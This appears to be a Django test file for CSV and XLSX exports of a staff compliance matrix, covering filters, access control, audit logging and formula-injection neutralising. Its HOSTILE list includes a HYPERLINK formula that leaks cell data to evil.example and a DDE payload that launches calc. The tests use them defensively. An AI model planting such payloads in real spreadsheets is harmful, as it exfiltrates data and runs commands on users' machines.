"""CSV and XLSX exports of the compliance matrix: content, filters, hostile text, access."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from imh_accounts.choices import ProfessionalRole
from imh_compliance import exports
from imh_compliance.models import AccessEvent, Assignment
from imh_compliance.selectors.matrix import MatrixFilters, compliance_matrix
from imh_core.spreadsheets import FORMULA_PREFIXES
from imh_organisations.models import Site, Team

TODAY = datetime.date(2026, 6, 1)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 20 7946 0000",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed name",
    "\rReturn name",
]

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(datetime.datetime(2026, 6, 1, 9, 30), tick=False):
        yield


def _assign(organisation, membership, course, due_on):
    return Assignment.objects.create(
        organisation=organisation,
        user=membership.user,
        course=course,
        due_on=due_on,
        source=Assignment.Source.MANAGER,
    )


@pytest.fixture
def team(organisation):
    return Team.objects.create(organisation=organisation, name="Blue team")


@pytest.fixture
def site(organisation):
    return Site.objects.create(organisation=organisation, name="Riverside site")


@pytest.fixture
def staffed(organisation, course, staff_membership, member, team, site):
    """Sam Midwife (overdue, blue team) and a health visitor (not started, no team)."""
    staff_membership.team = team
    staff_membership.site = site
    staff_membership.save()
    visitor = member(name="Harper Visitor")
    _assign(organisation, staff_membership, course, datetime.date(2026, 5, 1))
    _assign(organisation, visitor, course, datetime.date(2026, 7, 1))
    return staff_membership, visitor


def _csv_rows(response) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def _xlsx(response):
    return load_workbook(io.BytesIO(response.content))


# The neutraliser.


@pytest.mark.parametrize("value", HOSTILE)
def test_spreadsheet_safe_quotes_formula_starts(value):
    assert exports.spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Sam Midwife", "O'Neill", "5", "", "a=b", "ann@example.com"])
def test_spreadsheet_safe_leaves_plain_text(value):
    assert exports.spreadsheet_safe(value) == value


# CSV.


def test_csv_is_a_clean_table(as_user, manager, organisation, course, staffed):
    response = as_user(manager).get(reverse("imh_compliance:export_csv", args=[organisation.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="compliance-{organisation.slug}-2026-06-01.csv"'
    )
    rows = _csv_rows(response)
    assert rows[0] == [
        "Name",
        "Email",
        "Role",
        "Team",
        "Site",
        "Overall",
        "Safeguarding babies: status",
        "Safeguarding babies: date",
    ]
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Harper Visitor", "Morgan Manager", "Sam Midwife"}
    assert by_name["Morgan Manager"][6:] == ["Not required", ""]
    sam = by_name["Sam Midwife"]
    assert sam[2:] == [
        "Midwife",
        "Blue team",
        "Riverside site",
        "Not compliant",
        "Overdue",
        "2026-05-01",
    ]
    assert by_name["Harper Visitor"][3:] == ["", "", "On track", "Not started", "2026-07-01"]
    assert all(len(row) == 8 for row in rows)  # no blank or note lines


@pytest.mark.parametrize("hostile", HOSTILE)
def test_csv_neutralises_hostile_names_and_titles(
    as_user, manager, organisation, course, member, hostile
):
    course.title = hostile
    course.save_revision().publish()
    hostile_member = member(name=hostile)
    _assign(organisation, hostile_member, course, datetime.date(2026, 7, 1))
    Team.objects.create(organisation=organisation, name=hostile)
    hostile_member.team = Team.objects.get(organisation=organisation, name=hostile)
    hostile_member.save()

    rows = _csv_rows(
        as_user(manager).get(reverse("imh_compliance:export_csv", args=[organisation.pk]))
    )
    assert rows[0][6] == f"'{hostile}: status"
    (row,) = [row for row in rows[1:] if row[1] == hostile_member.user.email]
    # Names are trimmed of surrounding white space before they reach the matrix.
    assert row[0] == exports.spreadsheet_safe(hostile.strip())
    assert row[0].startswith("'") or hostile[0] in "\t\r"
    assert row[3] == "'" + hostile
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_PREFIXES), value


def test_csv_applies_the_filters(as_user, manager, organisation, course, staffed, team):
    client = as_user(manager)
    url = reverse("imh_compliance:export_csv", args=[organisation.pk])

    def names(query):
        return sorted(row[0] for row in _csv_rows(client.get(url, query))[1:])

    assert names({"role": ProfessionalRole.MIDWIFE}) == ["Sam Midwife"]
    assert names({"role": ProfessionalRole.HEALTH_VISITOR}) == ["Harper Visitor"]
    assert names({"team": team.pk}) == ["Sam Midwife"]
    assert names({"status": "not_started"}) == ["Harper Visitor"]
    assert names({"status": "overdue", "column": f"course:{course.pk}"}) == ["Sam Midwife"]
    assert names({"q": "harper"}) == ["Harper Visitor"]


def test_csv_order_follows_the_sort(as_user, manager, organisation, staffed):
    url = reverse("imh_compliance:export_csv", args=[organisation.pk])
    rows = _csv_rows(as_user(manager).get(url, {"order": "desc"}))
    assert [row[0] for row in rows[1:]] == ["Sam Midwife", "Morgan Manager", "Harper Visitor"]


def test_csv_of_chosen_members_only(as_user, manager, organisation, staffed, other_organisation):
    _sam, visitor = staffed
    url = reverse("imh_compliance:export_csv", args=[organisation.pk])
    client = as_user(manager)
    rows = _csv_rows(client.get(url, {"member": [visitor.user_id]}))
    assert [row[0] for row in rows[1:]] == ["Harper Visitor"]
    # Someone else's member id matches nobody here.
    from tests.organisations.factories import MembershipFactory

    stranger = MembershipFactory(organisation=other_organisation)
    rows = _csv_rows(client.get(url, {"member": [stranger.user_id]}))
    assert rows[1:] == []


def test_the_dashboard_downloads_the_ticked_members(
    as_user, manager, organisation, staffed, course
):
    _sam, visitor = staffed
    client = as_user(manager)
    page = client.get(reverse("imh_compliance:dashboard", args=[organisation.pk])).content.decode()
    export = reverse("imh_compliance:export_csv", args=[organisation.pk])
    assert f'name="selection" value="chosen" formaction="{export}"' in page
    rows = _csv_rows(client.get(export, {"member": [visitor.user_id], "selection": "chosen"}))
    assert [row[0] for row in rows[1:]] == ["Harper Visitor"]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"role": "astronaut"}, "Choose a role from the list."),
        ({"status": "sort-of"}, "Choose a status from the list."),
        ({"member": "all"}, "Choose staff from the list."),
        # "Download them" under the dashboard's table with nobody ticked.
        ({"selection": "chosen"}, "Select at least one member of staff on the dashboard."),
    ],
)
def test_bad_filters_refuse_the_export(as_user, manager, organisation, staffed, query, message):
    for name in ("imh_compliance:export_csv", "imh_compliance:export_xlsx"):
        response = as_user(manager).get(reverse(name, args=[organisation.pk]), query)
        assert response.status_code == 400
        assert response["Content-Type"].startswith("text/html")
        assert message in response.content.decode()
    assert not AccessEvent.objects.exists()


def test_another_organisations_team_is_a_bad_filter(
    as_user, manager, organisation, staffed, other_organisation
):
    elsewhere = Team.objects.create(organisation=other_organisation, name="Their team")
    response = as_user(manager).get(
        reverse("imh_compliance:export_csv", args=[organisation.pk]), {"team": elsewhere.pk}
    )
    assert response.status_code == 400
    assert "Choose a team from the list." in response.content.decode()


def test_each_export_is_written_to_the_access_log(as_user, manager, organisation, staffed):
    client = as_user(manager)
    client.get(reverse("imh_compliance:export_csv", args=[organisation.pk]), {"role": "midwife"})
    client.get(reverse("imh_compliance:export_xlsx", args=[organisation.pk]))
    events = list(AccessEvent.objects.order_by("pk"))
    assert [(e.action, e.viewer_id, e.organisation_id) for e in events] == [
        (AccessEvent.Action.EXPORTED, manager.pk, organisation.pk)
    ] * 2
    assert events[0].detail == "CSV of 1 staff (Role: Midwife)"
    assert events[1].detail == "XLSX of 3 staff"


@pytest.mark.parametrize("name", ["imh_compliance:export_csv", "imh_compliance:export_xlsx"])
def test_other_organisations_exports_are_404(as_user, other_manager, staff, organisation, name):
    response = as_user(other_manager).get(reverse(name, args=[organisation.pk]))
    assert response.status_code == 404
    response = as_user(staff).get(reverse(name, args=[organisation.pk]))
    assert response.status_code == 404
    assert not AccessEvent.objects.exists()


def test_exports_need_a_login(client, organisation):
    response = client.get(reverse("imh_compliance:export_csv", args=[organisation.pk]))
    assert response.status_code == 302


# XLSX.


def test_xlsx_has_the_matrix_and_totals(as_user, manager, organisation, course, staffed):
    response = as_user(manager).get(reverse("imh_compliance:export_xlsx", args=[organisation.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == (
        f'attachment; filename="compliance-{organisation.slug}-2026-06-01.xlsx"'
    )
    workbook = _xlsx(response)
    assert workbook.sheetnames == ["Compliance", "Totals"]
    sheet = workbook["Compliance"]
    assert sheet.freeze_panes == "B2"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:6] == ("Name", "Email", "Role", "Team", "Site", "Overall")
    sam = next(row for row in rows if row[0] == "Sam Midwife")
    assert sam[6] == "Overdue"
    # A real date, not text.
    assert sam[7] == datetime.datetime(2026, 5, 1)
    date_cell = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "Sam Midwife")[7]
    assert date_cell.is_date

    totals = list(workbook["Totals"].iter_rows(values_only=True))
    assert totals[0] == (
        "Course or pathway",
        "Overdue",
        "Expired",
        "Expiring soon",
        "Not started",
        "In progress",
        "Completed",
        "Required of",
    )
    assert totals[1] == ("Safeguarding babies", 1, 0, 0, 1, 0, 0, 2)
    assert workbook["Totals"].max_row == 2


def test_xlsx_stores_hostile_text_as_neutralised_strings(
    as_user, manager, organisation, course, member
):
    for hostile in HOSTILE:
        _assign(organisation, member(name=hostile), course, datetime.date(2026, 7, 1))
    course.title = HOSTILE[0]
    course.save_revision().publish()
    response = as_user(manager).get(reverse("imh_compliance:export_xlsx", args=[organisation.pk]))
    workbook = _xlsx(response)
    sheet = workbook["Compliance"]
    names = {}
    for row in sheet.iter_rows(min_row=2):
        names[row[0].value] = row[0]
    for hostile in HOSTILE:
        cell = names[exports.spreadsheet_safe(hostile.strip())]
        assert cell.data_type == "s"
    header = next(sheet.iter_rows(max_row=1))
    assert header[6].data_type == "s"
    assert header[6].value == f"'{HOSTILE[0]}: status"
    total_title = next(workbook["Totals"].iter_rows(min_row=2, max_row=2))[0]
    assert total_title.data_type == "s"
    assert total_title.value == "'" + HOSTILE[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


def test_xlsx_drops_characters_xml_cannot_hold(as_user, manager, organisation, course, member):
    # Control characters a database keeps (PostgreSQL refuses only NUL) but XML cannot hold.
    _assign(organisation, member(name="Bell\x07 Ringer\x1b"), course, datetime.date(2026, 7, 1))
    response = as_user(manager).get(reverse("imh_compliance:export_xlsx", args=[organisation.pk]))
    assert response.status_code == 200
    values = [row[0] for row in _xlsx(response)["Compliance"].iter_rows(values_only=True)]
    assert "Bell Ringer" in values


def test_builders_agree_with_the_matrix(organisation, course, staffed):
    matrix = compliance_matrix(
        organisation=organisation, filters=MatrixFilters(role="midwife"), today=TODAY
    )
    text = exports.matrix_csv(matrix)
    assert text.count("\n") == 2  # header and Sam
    workbook = load_workbook(io.BytesIO(exports.matrix_xlsx(matrix)))
    assert workbook["Compliance"].max_row == 2


def test_builders_neutralise_every_text_cell():
    """Straight through the builders, with white space the database would have kept."""
    from imh_compliance.selectors.columns import Column
    from imh_compliance.selectors.matrix import Matrix, Row
    from imh_compliance.status import Cell, Status
    from imh_organisations.models import Organisation

    column = Column("course:1", "course", 1, "=Course", (1,))
    rows = [
        Row(
            membership_id=index,
            user_id=index,
            name=hostile,
            email=f"@{index}@example.com",
            role="",
            team_id=None,
            team=hostile,
            site_id=None,
            site="-site",
            cells=[Cell(Status.OVERDUE, due_on=datetime.date(2026, 5, 1))],
        )
        for index, hostile in enumerate(HOSTILE)
    ]
    matrix = Matrix(
        organisation=Organisation(name="Org", slug="org"),
        today=TODAY,
        columns=[column],
        rows=rows,
        member_count=len(rows),
        totals=[{Status.OVERDUE: len(rows)}],
    )
    lines = list(csv.reader(io.StringIO(exports.matrix_csv(matrix)[1:])))
    assert lines[0][6:] == ["'=Course: status", "'=Course: date"]
    for line, hostile in zip(lines[1:], HOSTILE, strict=True):
        assert line[0] == line[3] == "'" + hostile
        assert line[1].startswith("'@")
        assert line[4] == "'-site"
        assert line[7] == "2026-05-01"

    workbook = load_workbook(io.BytesIO(exports.matrix_xlsx(matrix)))
    sheet_rows = list(workbook["Compliance"].iter_rows())
    for cells, hostile in zip(sheet_rows[1:], HOSTILE, strict=True):
        for cell in (cells[0], cells[3]):
            assert cell.data_type == "s"
            assert cell.value == "'" + hostile.replace("\r", "\n")  # XML reads CR as LF
        assert cells[7].is_date
